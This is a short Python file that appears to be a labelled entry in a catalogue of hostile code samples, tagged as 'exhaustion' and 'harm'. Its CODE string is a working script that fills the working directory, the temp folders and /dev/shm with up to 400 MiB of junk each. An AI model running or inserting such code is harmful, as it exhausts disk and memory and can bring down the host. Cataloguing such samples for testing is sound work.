"""Fills the disks on which it may write, and keeps them full."""

FAMILY = "exhaustion"
HONEST = 2
PLAIN = "harm"
ALONE = True
CODE = r"""
import os
import tempfile

for folder in {os.getcwd(), tempfile.gettempdir(), "/dev/shm", "/var/tmp"}:
    for number in range(400):
        try:
            with open(os.path.join(folder, f"full{number}"), "wb") as file:
                file.write(b"\1" * 2**20)
        except OSError:
            break
"""
